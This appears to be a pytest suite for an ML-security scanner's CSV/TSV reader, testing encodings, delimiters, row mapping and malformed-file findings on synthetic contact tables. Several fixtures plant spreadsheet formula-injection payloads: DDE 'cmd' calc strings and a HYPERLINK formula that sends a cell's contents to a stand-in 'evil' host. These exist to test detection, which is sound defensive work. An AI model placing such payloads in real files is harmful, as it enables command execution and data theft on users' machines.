"""The CSV/TSV reader: encodings, delimiters, quoting, row numbers, and every malformed file reported.

Fixtures are realistic contact/ledger tables (names, e-mails, signed amounts, phone numbers,
@handles, free text with commas and quoted newlines) with a few poisoned cells, one past row
10,000. Row numbers are 0-based data rows (header excluded), as a loader would index them.
"""

from __future__ import annotations

import csv
import gzip
import io
import pickle
import random
from pathlib import Path

import pytest

from mlsec_dagster import scan_path
from mlsec_dagster.engine.artifact import Artifact
from mlsec_dagster.engine.findings import Finding, Severity
from mlsec_dagster.engine.policy import CustomPattern, DatasetRules, Policy
from mlsec_dagster.scanners.datasets import delimited

ROWS = 12_000
MARK = "ZZQ_POISON"
MARK_POLICY = Policy(
    dataset_rules=DatasetRules(
        custom_patterns=(CustomPattern(name="m", pattern=MARK, severity=Severity.HIGH, description="t"),)
    )
)
HEADER = ["name", "email", "amount", "phone", "handle", "note"]

_FIRST = ["Alice", "Bogdan", "Chiara", "Dmitri", "Eve", "Fatima", "Giulia", "Hiro", "Ingrid", "Kwame"]
_LAST = ["Nguyen", "Okafor", "Rossi", "Schmidt", "Tanaka", "Silva", "Kowalski", "Haddad", "Berg", "Lopez"]
_NOTES = [
    "Paid in full, thanks",
    "Refund issued; see ticket 4411",
    'Customer said "call after 5pm", left voicemail',
    "Line one\nline two of the note",
    "Moved to Berlin, Germany",
    "VIP - handle with care",
    "+ bonus applied at checkout",
    "n/a",
]


def _people(rows: int = ROWS, seed: int = 7) -> list[list[str]]:
    rng = random.Random(seed)
    out = []
    for i in range(rows):
        first, last = rng.choice(_FIRST), rng.choice(_LAST)
        amount = f"{rng.uniform(-500, 5000):.2f}"
        phone = f"+1 555 {rng.randint(100, 999)} {rng.randint(1000, 9999)}"
        out.append(
            [
                f"{first} {last}",
                f"{first.lower()}.{last.lower()}{i}@example.com",
                amount,
                phone,
                f"@{first.lower()}_{i % 97}",
                rng.choice(_NOTES),
            ]
        )
    return out


def _csv_text(
    rows: list[list[str]], header: list[str] = HEADER, delimiter: str = ",", eol: str = "\n"
) -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator=eol)
    writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue()


def _write(tmp_path: Path, name: str, data: str | bytes, encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(data.encode(encoding) if isinstance(data, str) else data)
    return path


def _scan(path: Path, policy: Policy | None = None) -> list[Finding]:
    findings = scan_path(path, policy=policy or Policy(), root=path.parent).findings
    assert not [f for f in findings if f.rule_id == "MLS-SCN-001"], findings
    return findings


def _rule(findings: list[Finding], rule_id: str) -> list[Finding]:
    return [f for f in findings if f.rule_id == rule_id]


def _marked(findings: list[Finding]) -> set[tuple[int | None, str | None]]:
    return {(f.location.row, f.location.field) for f in _rule(findings, "MLS-DSC-001")}


# -- sniffing -----------------------------------------------------------------------------------
def _artifact(name: str, data: bytes, member: tuple[str, ...] = ()) -> Artifact:
    return Artifact(
        name if not member else "outer.gz", member, len(data), data[:65536], lambda: io.BytesIO(data)
    )


@pytest.mark.parametrize("name", ["data.csv", "DATA.TSV", "part-0.tab", "x.psv"])
def test_sniff_claims_table_names(name: str) -> None:
    assert delimited.sniff(_artifact(name, b"a,b\n1,2\n"))


@pytest.mark.parametrize("name", ["README.md", "train.py", "notes.txt", "config.json", "data.csv.bak"])
def test_sniff_never_claims_other_text(name: str) -> None:
    assert not delimited.sniff(_artifact(name, b"a,b\n1,2\n"))


def test_sniff_uses_inner_member_name_and_leaves_pickles_alone() -> None:
    assert delimited.sniff(_artifact("data.csv.gz", b"a,b\n1,2\n", member=("data.csv",)))
    for protocol in (0, 2, 4):
        payload = pickle.dumps({"rows": [1, 2, 3], "name": "x" * 40}, protocol=protocol)
        assert not delimited.sniff(_artifact("data.csv", payload)), protocol


# -- row and column mapping ---------------------------------------------------------------------
@pytest.mark.parametrize("block", [None, 64 * 1024])
def test_rows_stay_exact_across_quoted_newlines_and_blocks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, block: int | None
) -> None:
    if block:
        monkeypatch.setattr(delimited, "BLOCK_BYTES", block)  # ~20 blocks: rows counted across them
    rows = _people()
    for row, col in ((3, 5), (4_500, 1), (10_500, 5), (11_999, 0)):
        rows[row][col] = f"prefix, with comma\nand a newline {MARK}"
    rows[7][5] = "x" * 5_000 + MARK  # past char 4,096 of a long cell
    path = _write(tmp_path, "people.csv", _csv_text(rows))
    found = _scan(path, MARK_POLICY)
    assert _marked(found) == {(3, "note"), (4_500, "email"), (10_500, "note"), (11_999, "name"), (7, "note")}
    long_cell = next(f for f in _rule(found, "MLS-DSC-001") if f.location.row == 7)
    assert long_cell.location.char_offset == 5_000
    assert not [f for f in found if f.severity >= Severity.HIGH and f.rule_id != "MLS-DSC-001"]


def test_record_larger_than_a_block_restarts_without_losing_rows(tmp_path: Path) -> None:
    rows = _people(3_000)
    rows[100][5] = "lorem ipsum, dolor\n" * 300_000  # ~5.7 MB: larger than the 4 MiB block
    rows[2_500][1] = MARK
    path = _write(tmp_path, "big.csv", _csv_text(rows))
    found = _scan(path, MARK_POLICY)
    assert _marked(found) == {(2_500, "email")}
    assert not _rule(found, "MLS-DAT-001")


def test_tsv_by_name_and_by_content(tmp_path: Path) -> None:
    rows = _people(2_000)
    rows[1_234][3] = MARK
    for name in ("people.tsv", "tabs_named.csv"):
        path = _write(tmp_path, name, _csv_text(rows, delimiter="\t"))
        assert _marked(_scan(path, MARK_POLICY)) == {(1_234, "phone")}


def test_pipe_delimited(tmp_path: Path) -> None:
    rows = _people(500)
    rows[499][2] = MARK
    path = _write(tmp_path, "people.psv", _csv_text(rows, delimiter="|"))
    assert _marked(_scan(path, MARK_POLICY)) == {(499, "amount")}


# -- encodings ----------------------------------------------------------------------------------
def test_semicolon_latin1_with_accents_is_decoded_not_high(tmp_path: Path) -> None:
    rng = random.Random(3)
    names = ["José Müller", "Zoë Ærø", "François Façade", "Ångström Öberg"]
    rows = [
        [rng.choice(names), f"{rng.randint(-99, 999)},{rng.randint(0, 99):02d}", "café"] for _ in range(3_000)
    ]
    rows[2_222][0] = "Renée ZZQ_POISON"
    text = _csv_text(rows, header=["nom", "montant", "boisson"], delimiter=";")
    path = _write(tmp_path, "ventes.csv", text, encoding="latin-1")
    policy = Policy(
        dataset_rules=DatasetRules(
            custom_patterns=(
                CustomPattern(name="m", pattern="Renée ZZQ", severity=Severity.HIGH, description="t"),
            )
        )
    )
    found = _scan(path, policy)
    assert _marked(found) == {(2_222, "nom")}  # decoded: the accent matches
    (note,) = _rule(found, "MLS-CSV-001")
    assert note.severity == Severity.LOW and "Latin-1" in note.message
    assert not _rule(found, "MLS-DAT-010") and not _rule(found, "MLS-DAT-005")
    assert not [f for f in found if f.severity >= Severity.HIGH and f.rule_id != "MLS-DSC-001"]


def test_windows_1252_smart_quotes_and_euro_are_decoded(tmp_path: Path) -> None:
    rows = [[f"Item {i}", f"{i % 90},{i % 100:02d} €", "“quoted” \u2013 dash"] for i in range(2_000)]
    rows[1_500][2] = "“ZZQ_POISON”"
    path = _write(
        tmp_path, "prices.csv", _csv_text(rows, header=["item", "price", "label"], delimiter=";"), "cp1252"
    )
    policy = Policy(
        dataset_rules=DatasetRules(
            custom_patterns=(
                CustomPattern(name="m", pattern="“ZZQ", severity=Severity.HIGH, description="t"),
            )
        )
    )
    found = _scan(path, policy)
    assert _marked(found) == {(1_500, "label")}
    (note,) = _rule(found, "MLS-CSV-001")
    assert "Windows-1252" in note.message


def test_utf8_bom_is_stripped_so_a_header_formula_is_seen(tmp_path: Path) -> None:
    rows = _people(1_000)
    header = ["=cmd|' /C calc'!A0", *HEADER[1:]]
    path = _write(tmp_path, "bom.csv", "\ufeff" + _csv_text(rows, header=header))
    found = _scan(path)
    high = [f for f in found if f.severity >= Severity.HIGH]
    assert high and all(f.location.row is None for f in high)
    assert any(f.location.field == "=cmd|' /C calc'!A0" for f in high)
    assert not _rule(found, "MLS-CSV-001")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_is_transcoded_and_reported_low(tmp_path: Path, encoding: str) -> None:
    rows = _people(2_000)
    rows[1_999][4] = MARK
    path = _write(tmp_path, "wide.csv", _csv_text(rows), encoding=encoding)
    found = _scan(path, MARK_POLICY)
    assert _marked(found) == {(1_999, "handle")}
    (note,) = _rule(found, "MLS-CSV-001")
    assert note.severity == Severity.LOW and "UTF-16" in note.message


def test_invalid_utf8_bytes_in_a_utf8_file_are_reported_with_row(tmp_path: Path) -> None:
    rows = _people()
    rows[0][0] = "Renée Ångström"  # real UTF-8 in the head
    lines = _csv_text(rows).encode("utf-8").split(b"\n")
    at = next(i for i, line in enumerate(lines) if i > 6_000 and b"Line one" not in line)
    row = at - 1 - sum(1 for line in lines[:at] if line.startswith(b"line two"))
    lines[at] = lines[at].replace(b",@", b",@\xff\xfe", 1)  # handle column
    path = _write(tmp_path, "broken.csv", b"\n".join(lines))
    found = _scan(path)
    (bad,) = _rule(found, "MLS-DAT-010")
    assert bad.location.row == row and bad.location.field == "handle"
    assert not _rule(found, "MLS-CSV-001")


def test_crlf_rows_and_values(tmp_path: Path) -> None:
    rows = _people(3_000)
    rows[2_048][5] = f"first\r\nsecond {MARK}"
    path = _write(tmp_path, "windows.csv", _csv_text(rows, eol="\r\n"))
    policy = Policy(
        dataset_rules=DatasetRules(
            custom_patterns=(
                CustomPattern(name="m", pattern=MARK, severity=Severity.HIGH, description="t"),
                CustomPattern(name="cr", pattern=r"\r$", severity=Severity.HIGH, description="stray CR"),
            )
        )
    )
    found = _scan(path, policy)
    assert _marked(found) == {(2_048, "note")}  # and no value ends with a stray \r


def test_gzip_member_is_read_by_inner_name(tmp_path: Path) -> None:
    rows = _people()
    rows[10_001][5] = MARK
    path = tmp_path / "data.csv.gz"
    with gzip.open(path, "wt", encoding="utf-8", newline="") as fh:
        fh.write(_csv_text(rows))
    found = _scan(path, MARK_POLICY)
    (hit,) = _rule(found, "MLS-DSC-001")
    assert (hit.location.row, hit.location.field, hit.location.member) == (10_001, "note", ("data.csv",))


# -- payloads end to end (formula detector) -------------------------------------------------------
def test_formula_payloads_found_and_benign_lookalikes_not_high(tmp_path: Path) -> None:
    rows = _people()
    rows[12][5] = "=cmd|' /C calc'!A0"
    rows[7_000][1] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[10_500][5] = '=HYPERLINK("http://evil/"&A1)'
    path = _write(tmp_path, "ledger.csv", _csv_text(rows))
    high = {(f.location.row, f.location.field) for f in _scan(path) if f.severity >= Severity.HIGH}
    assert high == {(12, "note"), (7_000, "email"), (10_500, "note")}


# -- malformed files: every one is a finding, never MLS-SCN-001 ---------------------------------
def test_truncated_inside_a_quoted_field(tmp_path: Path) -> None:
    rows = _people(2_000)
    rows[1_500][5] = 'Customer said "call after 5pm", left voicemail'
    head = _csv_text(rows[:1_500])
    record = _csv_text([rows[1_500]], header=[]).lstrip("\r\n")
    path = _write(tmp_path, "cut.csv", head + record[: record.index('"Customer') + 20])
    found = _scan(path)
    (corrupt,) = _rule(found, "MLS-DAT-001")
    assert corrupt.severity == Severity.HIGH and corrupt.location.row == 1_500


def test_truncated_mid_record_without_line_end(tmp_path: Path) -> None:
    text = _csv_text(_people(2_000))
    path = _write(tmp_path, "cut2.csv", text[: text.rindex("@example.com") + 4])
    found = _scan(path)
    (corrupt,) = _rule(found, "MLS-DAT-001")
    assert corrupt.location.row == 1_999
    assert not _rule(found, "MLS-DAT-006")


def test_unclosed_quote_early_is_reported_at_its_row(tmp_path: Path) -> None:
    rows = [[*row[:5], "plain note"] for row in _people(400)]
    lines = _csv_text(rows).split("\n")
    lines[50] = lines[50] + ',"never closed'  # data row 49
    found = _scan(_write(tmp_path, "open.csv", "\n".join(lines)))
    (corrupt,) = _rule(found, "MLS-DAT-001")
    assert corrupt.location.row == 49


@pytest.mark.parametrize("block", [None, 64 * 1024])
def test_wrong_field_counts_are_listed_and_later_rows_keep_their_index(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, block: int | None
) -> None:
    if block:  # small blocks, and a 200 KB cell that forces a restart after the first rejected rows
        monkeypatch.setattr(delimited, "BLOCK_BYTES", block)
    text = _csv_text(_people(ROWS)).split("\n")
    header, body = text[0], text[1:]
    records: list[str] = []
    for line in body:  # rebuild records (quoted notes span two lines)
        if records and records[-1].count('"') % 2:
            records[-1] += "\n" + line
        else:
            records.append(line)
    records = [r for r in records if r]
    records[100] = "only,three,fields"
    records[5_000] = records[5_000] + ",extra,fields"
    records[10_200] = records[10_200].replace("@example.com", f"@example.com {MARK}")
    records[7_000] = records[7_000].replace(",@", ",@" + "y" * 200_000, 1)
    records[10_201] = records[10_201].replace(",@", f",@{MARK}", 1)
    path = _write(tmp_path, "ragged.csv", header + "\n" + "\n".join(records) + "\n")
    found = _scan(path, MARK_POLICY)
    assert {f.location.row for f in _rule(found, "MLS-DAT-006")} == {100, 5_000}
    assert _marked(found) == {(10_200, "email"), (10_201, "handle")}
    assert not _rule(found, "MLS-DAT-001")


def test_record_too_large_for_the_biggest_block_stops_with_a_finding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(delimited, "BLOCK_BYTES", 64 * 1024)
    monkeypatch.setattr(delimited, "MAX_BLOCK_BYTES", 128 * 1024)
    rows = [[*row[:5], "plain note"] for row in _people(ROWS)]
    lines = _csv_text(rows).split("\n")
    lines[9_000] = lines[9_000][: -len("plain note")] + '"never closed, plain note'  # data row 8,999
    found = _scan(_write(tmp_path, "open_big.csv", "\n".join(lines)))
    (corrupt,) = _rule(found, "MLS-DAT-001")
    assert corrupt.severity == Severity.HIGH and 8_000 < corrupt.location.row <= 8_999
    assert "stopped" in corrupt.message and "never closed" in corrupt.message


def test_too_many_ragged_rows_stops_reading(tmp_path: Path) -> None:
    body = "\n".join("a,b" if i % 2 else "a,b,c" for i in range(3_000))
    path = _write(tmp_path, "ragged_all.csv", "x,y,z\n" + body + "\n")
    found = _scan(path)
    assert _rule(found, "MLS-DAT-001") and _rule(found, "MLS-DAT-006")
    assert len(_rule(found, "MLS-DAT-006")) == 20


def test_binary_garbage_named_csv(tmp_path: Path) -> None:
    path = _write(tmp_path, "garbage.csv", random.Random(1).randbytes(50_000))
    (corrupt,) = _rule(_scan(path), "MLS-DAT-001")
    assert corrupt.severity == Severity.HIGH and "binary" in corrupt.message


@pytest.mark.parametrize(
    ("name", "data"), [("empty.csv", ""), ("blank.tsv", "\n\n\r\n"), ("header.csv", "a,b,c\n")]
)
def test_empty_and_header_only(tmp_path: Path, name: str, data: str) -> None:
    (empty,) = _rule(_scan(_write(tmp_path, name, data)), "MLS-DAT-002")
    assert empty.severity == Severity.MEDIUM


def test_header_only_file_still_has_its_header_scanned(tmp_path: Path) -> None:
    found = _scan(_write(tmp_path, "h.csv", 'id,"=HYPERLINK(""http://evil/""&A1)"\n'))
    assert _rule(found, "MLS-DAT-002")
    assert any(f.severity >= Severity.HIGH and f.location.row is None for f in found)


# -- mixed types and header anomalies -------------------------------------------------------------
def test_mixed_types_flags_a_few_odd_values_in_a_numeric_column(tmp_path: Path) -> None:
    rows = _people()
    for row in (321, 8_000, 11_111):
        rows[row][2] = "Berlin"  # a shifted row: text in the amount column
    path = _write(tmp_path, "shifted.csv", _csv_text(rows))
    (mixed,) = _rule(_scan(path), "MLS-DAT-005")
    assert (mixed.location.row, mixed.location.field) == (321, "amount")
    assert "8000" in mixed.evidence and "11111" in mixed.evidence


def test_mixed_types_ignores_text_and_mostly_numeric_ids(tmp_path: Path) -> None:
    rows = _people()
    for i in range(0, ROWS, 100):  # 1% alphanumeric ids: too many to be a shifted row
        rows[i][3] = f"EXT-{i}"
    for i, row in enumerate(rows):
        row[3] = row[3] if row[3].startswith("EXT") else str(100_000 + i)
        row[2] = "" if i % 3 else row[2]  # blanks are not odd values
    path = _write(tmp_path, "ids.csv", _csv_text(rows))
    found = _scan(path)
    assert not _rule(found, "MLS-DAT-005")
    assert not [f for f in found if f.severity >= Severity.HIGH]


def test_duplicate_empty_and_data_like_header(tmp_path: Path) -> None:
    found = _scan(_write(tmp_path, "dupes.csv", "name,name,,amount\n" + "a,b,c,1\n" * 50))
    (dupes,) = _rule(found, "MLS-CSV-002")
    assert "'name'" in dupes.message and "2" in dupes.message
    found = _scan(_write(tmp_path, "noheader.csv", "17,2024-01-05,3.5\n" + "18,2024-01-06,4.5\n" * 50))
    assert _rule(found, "MLS-CSV-003")
    wide = _write(tmp_path, "wide_years.csv", "country,2019,2020,2021\n" + "Chad,1,2,3\n" * 50)
    assert not _rule(_scan(wide), "MLS-CSV-003")


def test_text_blob_with_table_name_is_low(tmp_path: Path) -> None:
    blob = "\n".join("lorem ipsum dolor sit amet " * 60 for _ in range(20))
    found = _scan(_write(tmp_path, "blob.csv", "text\n" + blob))
    (note,) = _rule(found, "MLS-CSV-004")
    assert note.severity == Severity.LOW
